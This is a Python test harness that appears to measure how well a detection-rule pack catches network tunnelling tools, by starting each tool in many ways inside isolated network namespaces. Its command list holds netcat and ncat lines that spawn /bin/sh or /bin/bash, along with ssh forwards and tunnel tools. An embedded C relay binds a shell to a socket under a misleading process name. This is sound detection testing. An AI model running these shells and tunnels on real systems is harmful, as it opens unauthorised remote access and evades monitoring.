#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Starts tunnel programs in every way that they can be started, each in a network namespace of its own, while `swiftlet
watch` looks on, and says which of them the seed's rule and the whole pack saw.

A cell is a program with its arguments (tunnel_tools.py) in one way of starting it (tunnel_ways.py). Programs that are not
installed are stood in for by a file of their name (stand_in.c). An alert counts only when it is on the very process: of the
cell, of that file, with those arguments; not when it is on a shell or wrapper around it. Cells whose program was not
started at all are said and not counted. Harmless programs are started in the same ways, and what alerts of them is listed.
Behaviour cells do on the network what a tunnel does, under a name and with arguments that say nothing; relays do so in every
design that a relay may have.

Usage: tunnel_matrix.py SWIFTLET [--sensor auto] [--rules DIR] [--only TEXT] [--jobs 3] [--json FILE] [--against FILE] [--keep]
Needs root and a C compiler. Ends with 1 when the pack sees fewer than 95 of 100 cells, when a harmless one raises an alert
of medium or more, or when something was lost.
"""
import argparse
import collections
import concurrent.futures
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import time

from tunnel_tools import BEHAVIOUR, HARMLESS, TOOLS
from tunnel_ways import PATH, WAYS, Program, runner

HERE = os.path.dirname(os.path.abspath(__file__))
SEED = "8410ea51-e9f6-4213-93ef-806479d76b11"
# Any program of a few minutes that listens: all copies and stand-ins are that, so it would be no merit.
FRESH = "cc2ed6ea-119b-497f-b459-d1780d8e5359"
WEIGHT = ["none", "low", "medium", "high", "critical"]

# As in tunnel_tools.py: spellings that the pack missed once, by another's hand, most of them as copies.
SPELLINGS = """
ssh | ssh | -o ' LocalForward 80 h:80' far
ssh | ssh | -N -o 'LocalForward\t80 h:80' far
ssh | ssh | -o '"LocalForward" 80 h:80' far
ssh | ssh | -No' dynamicforward=1080' far
ssh | ssh | -o '=RemoteForward 9000' far
ssh | ssh | -R 1080 far
ssh | ssh | -NR 0.0.0.0:9000 far
ssh | ssh | -w any root@far
ssh | ssh | -o Tunnel=yes far
ssh jump | scp | -J jump file far:
ssh jump | sftp | -J jump far
aws | aws | ssm start-session --target i --document-name AWS-StartPortForwardingSession
tsh | tsh | proxy ssh far
boundary | boundary | connect ssh
firewall | firewall-cmd | --add-forward-port=port=80:proto=tcp:toport=80:toaddr=h
firewall | iptables-nft | -t nat -A POSTROUTING -j MASQUERADE
kernel device | ip | tunnel add g mode gre remote 192.0.2.1
hans | hans | -c 1.1.1.1 -p x
localtunnel | lt | --port 80 --subdomain x
netcat | nc.traditional | -e /bin/sh 127.0.0.1 4444
netcat | ncat | -l 4444 -e /bin/bash
netcat | ncat | --exec /bin/bash -l 4444
netcat | ncat | --proxy 127.0.0.1:80 h 22
gsocket | gs-netcat | -s x -l
Stowaway | stowaway | -c h:1 -s x
suo5 | suo5 | -t http://h/x.jsp
redirector | redir | --lport=80 --cport=80 --caddr=h
redirector | envoy | -c x.yaml
redirector | traefik | --entrypoints.x.address=:80
chisel | chisel | server -p 80
chisel | chisel | client h:80 3000
wstunnel | wstunnel | -s 0.0.0.0:80
playit | playit |
expose | @php expose | share http://x
lcx | portmap | -m 2 -p1 80 -h2 h -p2 80
kcptun | client_linux_amd64 | -r h:4000 -l :8388
"""

TOOLS += SPELLINGS.lstrip()

# What RELAY does for each cell, and the name of its file: a known one must be no dodge.
RELAYS = {
    "forks": "svchelper", "to loopback": "svchelper", "waits 3 s": "svchelper", "named java": "java",
    "background, forks": "svchelper", "forks, waits 3 s": "svchelper", "client, then listens": "svchelper",
    "client, child listens": "node", "becomes a shell": "svchelper",
}

# Whoever calls it comes from an address that is not loopback's; where it leads is in the same namespace.
RELAY = r"""
#include <arpa/inet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static struct sockaddr_in at(const char *address, int port) {
  struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, address, &place.sin_addr);
  return place;
}
static int listener(const char *address, int port) {
  int file = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in place = at(address, port);
  if (bind(file, (struct sockaddr *)&place, sizeof place) || listen(file, 4)) perror("listen");
  return file;
}
static int connected(const char *address, int port) {
  int file = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in place = at(address, port);
  if (connect(file, (struct sockaddr *)&place, sizeof place)) perror("connect");
  return file;
}
static void call(const char *words) {
  if (fork()) return;
  usleep(100000);
  dprintf(connected("198.51.100.1", 1080), "%s", words);
  sleep(5);
  _exit(0);
}
static void serve(int near, const char *what) {
  call("");
  accept(near, NULL, NULL);
  if (strstr(what, "forks") && fork()) return;
  if (strstr(what, "waits")) sleep(3);
  if (strstr(what, "loopback")) connected("127.0.0.1", 8444);
  else connected("198.51.100.1", 8443);
  usleep(600000);
}
int main(void) {
  const char *what = getenv("STAND_IN");
  usleep(100000);
  listener("198.51.100.1", 8443);
  listener("127.0.0.1", 8444);
  if (strstr(what, "client")) {
    connected("198.51.100.1", 8443);
    usleep(50000);
    if (!strstr(what, "child") || fork() == 0) listener("127.0.0.1", 1081);
  } else if (strstr(what, "shell")) {
    int near = listener("198.51.100.1", 1080);
    call("exit\n");
    int file = accept(near, NULL, NULL);
    for (int number = 0; number < 3; number++) dup2(file, number);
    execl(getenv("STAND_IN_SHELL"), "upd", "-i", NULL);
  } else if (strstr(what, "background")) {
    // The listener ends, and what it left behind accepts.
    if (fork() == 0) {
      int near = listener("0.0.0.0", 1080);
      if (fork()) _exit(0);
      serve(near, what);
    }
  } else {
    serve(listener("0.0.0.0", 1080), what);
  }
  usleep(strstr(what, "waits") ? 4500000 : 1200000);
  return 0;
}
"""


class Cell:
    def __init__(self, family, label, program, way, stand_in=None):
        self.family = family
        self.label = label
        self.program = program
        self.way = way
        self.stand_in = stand_in
        self.files = set()
        self.words = []
        self.started = False
        self.seed = False
        self.rules = {}

    @property
    def severity(self):
        return max(self.rules.values(), key=WEIGHT.index, default="none")


class Bench:
    """The folder of everything that is made, removed at the end whatever happens."""

    def __init__(self):
        # A folder of root's, so that no rule on writable places has an easy time.
        self.folder = tempfile.mkdtemp(prefix="tunnel-matrix-", dir="/var/lib")
        os.chmod(self.folder, 0o755)
        for source in ("matrix_cell", "stand_in"):
            subprocess.run(["cc", "-O2", "-o", f"{self.folder}/{source}", f"{HERE}/{source}.c"], check=True)
        subprocess.run(["cc", "-O2", "-x", "c", "-o", f"{self.folder}/relay", "-"], input=RELAY, text=True, check=True)
        self.shell = f"{self.folder}/upd"
        shutil.copy(os.path.realpath("/bin/bash"), self.shell)
        os.mkdir(self.folder + "/launch")
        for name in ("cron", "sudo", "systemd"):
            shutil.copy(self.folder + "/matrix_cell", f"{self.folder}/launch/{name}")

    def stand_in(self, name):
        path = f"{self.folder}/tools/{name}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.exists(path):
            shutil.copy(self.folder + "/stand_in", path)
        return path

    def program(self, name, arguments):
        words = shlex.split(arguments)
        script = None
        if name.startswith("@"):
            name, *before = name[1:].split()
            script = before[-1] if "." in before[-1] else None
            words = before + words
        return Program(shutil.which(name, path=PATH) or self.stand_in(name), words, script)

    def cells(self, text, only):
        for line in text.strip().splitlines():
            family, name, arguments = (part.strip() for part in line.split("|", 2))
            if only and only not in line:
                continue
            program = self.program(name, arguments)
            for way in WAYS:
                yield Cell(family, f"{name.lstrip('@')} {arguments}", program, way)

    def behaviour(self):
        for what in BEHAVIOUR:
            for way in ("bash", "python", "service", "memory, renamed"):
                yield Cell("behaviour", what, Program(self.stand_in("svchelper"), ["--run"]), way, what)
        yield from self.relays()

    def relays(self):
        for what, name in RELAYS.items():
            for way in ("bash", "python", "service", "memory, renamed"):
                # A file for each, for what is told once of a file would not be told again.
                path = "/".join([self.folder, "relays", what, way, name])
                os.makedirs(os.path.dirname(path))
                shutil.copy(self.folder + "/relay", path)
                yield Cell("relay", what, Program(path, ["--run"]), way, what)

    def remove(self):
        shutil.rmtree(self.folder, ignore_errors=True)


def start(bench, number, cell):
    told, words = WAYS[cell.way](cell.program, bench.folder)
    told.setdefault("expect", runner(cell.program, bench.folder))
    interpreted = cell.program.script or told["expect"] != os.path.realpath(cell.program.file)
    told["hold"] = "5000" if cell.family == "relay" else "1200" if cell.stand_in else "600" if interpreted or "/python" in told["expect"] else "60"
    # The sensor says of a script its own file; the kernel, which the cell asks, its interpreter's.
    cell.files = {told["expect"], os.path.realpath(cell.program.file), cell.program.file, words[0]}
    cell.words = words[1:] if cell.way == "renamed" else cell.program.words
    items = [f"{key}={text}" for key, text in told.items()] + ["--"] + words
    environment = {"PATH": PATH, "HOME": "/nonexistent", "LANG": "C"}
    if cell.stand_in:
        environment["STAND_IN"] = cell.stand_in
        environment["STAND_IN_SHELL"] = bench.shell
        cell.files |= {bench.shell} if "shell" in cell.stand_in else set()
    subprocess.run(
        [bench.folder + "/matrix_cell", f"cell-{number}"], input=b"".join(item.encode() + b"\0" for item in items),
        env=environment, cwd=bench.folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


class Watch:
    """`swiftlet watch`, ready before the first cell starts and ended after the last has come through."""

    def __init__(self, options, folder):
        self.alerts, self.events, self.stats = (f"{folder}/{name}" for name in ("alerts", "events", "stats"))
        command = [options.swiftlet, "watch", "--jsonl", "--sensor", options.sensor, "--rules", options.rules,
                   "--events", self.events, "--stats-json", self.stats]
        self.errors = open(folder + "/errors", "w+", encoding="utf-8")
        self.process = subprocess.Popen(command, stdout=open(self.alerts, "wb"), stderr=self.errors)
        for _ in range(300):
            if "ready:" in open(folder + "/errors", encoding="utf-8").read():
                return
            if self.process.poll() is not None:
                break
            time.sleep(0.1)
        text = open(folder + "/errors", encoding="utf-8").read()
        self.end()
        sys.exit("swiftlet watch was not ready: " + text)

    def end(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            try:
                self.process.wait(30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        # What it said when it ended: how many events, and whether any was lost.
        self.errors.seek(0)
        self.said = [line for line in self.errors.read().splitlines() if not line.startswith("ready:")]


def lines(path):
    with open(path, "rb") as file:
        for line in file:
            yield json.loads(line)


def at(document, path):
    """A field of an alert or event, written as an object or with dots."""
    if path in document:
        return document[path]
    head, _, rest = path.partition(".")
    below = document.get(head)
    return at(below, rest) if rest and isinstance(below, dict) else None


def is_program(cell, process):
    """Whether it is the cell's program: one of its files or a file in memory, with its arguments at the end."""
    args, file = process.get("args") or [], process.get("executable") or ""
    known = file in cell.files or "memfd:" in file or (cell.way.startswith("memory") and file.startswith("/dev/fd/"))
    return known and (cell.stand_in is not None or args[len(args) - len(cell.words):] == cell.words)


def join(cells, watch, bench):
    """Writes what was seen into the cells; returns the alerts on harmless cells and the kinds of events that came."""
    roots, members, kinds = {}, {}, collections.Counter()
    for _ in range(2):
        for event in lines(watch.events):
            process = event.get("process", {})
            args, entity = process.get("args") or [], process.get("entity_id")
            kinds.update(at(event, "event.category") or [])
            started = "exec" in (at(event, "event.action") or "")
            # Not those of another run beside this one.
            if started and len(args) == 2 and args[0] == bench.folder + "/matrix_cell":
                roots[entity] = int(args[1].removeprefix("cell-"))
            for ancestor in (process.get("Ext") or {}).get("ancestry", []):
                if ancestor in roots and entity not in roots:
                    members[entity] = roots[ancestor]
            number = members.get(entity)
            if number is not None and started and is_program(cells[number], process):
                cells[number].started = True
    for alert in lines(watch.alerts):
        process = alert.get("process", {})
        number = members.get(process.get("entity_id"))
        if number is None or (alert.get("process", {}).get("args") and not is_program(cells[number], process)):
            continue
        rule = at(alert, "kibana.alert.rule.rule_id")
        if rule == SEED:
            cells[number].seed = True
        elif cells[number].stand_in == "listen" or rule != FRESH:
            cells[number].rules[at(alert, "kibana.alert.rule.name")] = at(alert, "kibana.alert.severity")
    return kinds


def table(title, cells, key):
    groups = collections.defaultdict(list)
    for cell in cells:
        groups[key(cell)].append(cell)
    print(f"\n{title:<22}{'cells':>6}{'seed':>8}{'pack':>8}{'medium+':>9}")
    for name, group in groups.items():
        shares = [sum(map(test, group)) * 100 / len(group) for test in (
            lambda cell: cell.seed, lambda cell: bool(cell.rules),
            lambda cell: WEIGHT.index(cell.severity) >= 2)] if group else []
        print(f"{name:<22}{len(group):>6}" + "".join(f"{share:>{width}.1f}" for share, width in zip(shares, (8, 8, 9))))


def reason(cell, kinds):
    if cell.family in ("behaviour", "relay"):
        wanted = "file" if cell.stand_in == "tun" else "network"
        return "no rule" if wanted in kinds else f"this sensor reports no {wanted} events"
    if cell.way in ("renamed", "memory, renamed"):
        return "neither its name nor its arguments say what it is"
    return "no rule"


def compare(cells, path):
    """Lists the cells on which other rules alerted than in the run that wrote the file."""
    with open(path, encoding="utf-8") as file:
        other = {(cell["family"], cell["program"], cell["way"]): cell for cell in json.load(file)["cells"]}
    groups, same = collections.defaultdict(list), 0
    for cell in cells:
        before = other.get((cell.family, cell.label, cell.way))
        if before is None or not (cell.started and before["started"]):
            continue
        now, then = set(cell.rules) | ({"the seed's"} if cell.seed else set()), \
            set(before["rules"]) | ({"the seed's"} if before["seed"] else set())
        if now == then:
            same += 1
        else:
            groups[(cell.label, tuple(sorted(then - now)), tuple(sorted(now - then)))].append(cell.way)
    differing = sum(map(len, groups.values()))
    print(f"\nagainst {path}: {same} cells with the same alerts, {differing} with others")
    for (label, missing, more), ways in sorted(groups.items()):
        print(f"  {label}: {', '.join(ways)}: " + "; ".join(
            f"{word} {', '.join(rules)}" for word, rules in (("without", missing), ("with", more)) if rules))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("swiftlet")
    parser.add_argument("--sensor", default="auto")
    parser.add_argument("--rules", default=os.path.join(HERE, "../../rules"))
    parser.add_argument("--only", help="lines of the list of programs that hold this text; behaviour: no programs")
    parser.add_argument("--jobs", type=int, default=3)
    parser.add_argument("--json", help="write every cell to this file")
    parser.add_argument("--against", help="list the differences from a run that wrote this file with --json")
    parser.add_argument("--keep", action="store_true", help="leave alerts and events where they are, and say where")
    options = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("needs root, for namespaces")
    bench = Bench()
    work = tempfile.mkdtemp(prefix="tunnel-matrix-")
    watch = None
    try:
        cells = list(bench.cells(TOOLS, options.only)) + list(bench.cells(HARMLESS, None))
        cells += list(bench.behaviour()) if options.only in (None, "behaviour") else []
        watch = Watch(options, work)
        began = time.monotonic()
        with concurrent.futures.ThreadPoolExecutor(options.jobs) as pool:
            for done in [pool.submit(start, bench, number, cell) for number, cell in enumerate(cells)]:
                done.result()
        took = time.monotonic() - began
        time.sleep(4)
        watch.end()
        kinds = join(cells, watch, bench)
        return report(options, cells, kinds, watch, took)
    finally:
        if watch:
            watch.end()
        bench.remove()
        if options.keep:
            print("kept:", work)
        else:
            shutil.rmtree(work, ignore_errors=True)


def report(options, cells, kinds, watch, took):
    tools = [cell for cell in cells if cell.family not in ("control", "behaviour", "relay") and cell.started]
    behaviour = [cell for cell in cells if cell.family in ("behaviour", "relay") and cell.started]
    controls = [cell for cell in cells if cell.family == "control" and cell.started]
    absent = [cell for cell in cells if not cell.started]
    if tools:
        table("program", tools, lambda cell: cell.family)
        table("way", tools, lambda cell: cell.way)
    if behaviour:
        table("behaviour", behaviour, lambda cell: cell.stand_in)
    missed = collections.defaultdict(list)
    for cell in tools + behaviour:
        if not cell.rules:
            missed[(reason(cell, kinds), cell.label)].append(cell.way)
    print("\nmissed:" if missed else "\nmissed: nothing")
    for (why, label), ways in sorted(missed.items()):
        print(f"  {label}: {', '.join(ways)}: {why}")
    if absent:
        print("\nnot started, not counted:")
        for cell in absent:
            print(f"  {cell.label}: {cell.way}")
    # To be run from memory is a mark of its own, whatever the program is.
    controls = [cell for cell in controls if not cell.way.startswith("memory")]
    false = [cell for cell in controls if cell.rules]
    print(f"\nharmless: {len(controls)} cells, {sum(cell.seed for cell in controls)} with an alert of the seed's rule, "
          f"{len(false)} with one of the pack")
    for cell in false:
        print(f"  {cell.label}: {cell.way}: {', '.join(cell.rules)} ({cell.severity})")
    total = max(len(tools), 1)
    seed, pack = (sum(map(test, tools)) * 100 / total for test in (lambda cell: cell.seed, lambda cell: bool(cell.rules)))
    print(f"\n{len(tools)} cells in {took:.0f} s: the seed's rule {seed:.1f} %, the pack {pack:.1f} %")
    print(*watch.said, sep="\n")
    if options.json:
        with open(options.json, "w", encoding="utf-8") as file:
            json.dump({"seed": seed, "pack": pack, "cells": [{
                "family": cell.family, "program": cell.label, "way": cell.way, "started": cell.started,
                "seed": cell.seed, "rules": cell.rules} for cell in cells]}, file, indent=1)
    if options.against:
        compare(cells, options.against)
    loud = any(WEIGHT.index(cell.severity) >= 2 for cell in controls)
    lost = not any("nothing lost" in line or "no event lost" in line for line in watch.said)
    return 1 if (tools and pack < 95) or loud or lost else 0


if __name__ == "__main__":
    sys.exit(main())
